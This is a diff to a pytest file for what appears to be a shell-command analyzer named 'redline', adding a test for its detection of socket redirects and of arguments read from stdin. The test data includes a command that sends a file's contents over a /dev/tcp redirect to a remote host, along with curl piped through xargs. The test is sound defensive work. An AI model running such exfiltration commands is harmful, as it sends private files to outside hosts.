@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from redline.rules.senders import SENDERS, Sent, is_remote
+from redline.rules.senders import SENDERS, Sent, args_from_stdin, is_remote, socket_redirect
 from redline.shell.analysis import analyze
 
 
@@ -52,3 +52,14 @@ def test_what_is_sent(command: str, expected: Sent | None) -> None:
 )  # fmt: skip
 def test_is_remote(value: str, remote: bool) -> None:
     assert is_remote(value) is remote
+
+
+def test_socket_redirects_and_arguments_from_stdin() -> None:
+    inv = analyze("cat k > /dev/tcp/x.io/9").invocations[0]
+    assert (socket_redirect(inv), socket_redirect(inv, writes=True)) == (True, True)
+    inv = analyze("cat < /dev/udp/x.io/9").invocations[0]
+    assert (socket_redirect(inv, writes=True), socket_redirect(inv, writes=False)) == (False, True)
+    assert not socket_redirect(analyze("cat k > /tmp/tcp").invocations[0])
+    piped = analyze("ls | xargs curl").invocations[-1]
+    found = analyze("find . -exec curl {} +").invocations[-1]
+    assert (args_from_stdin(piped), args_from_stdin(found)) == (True, False)
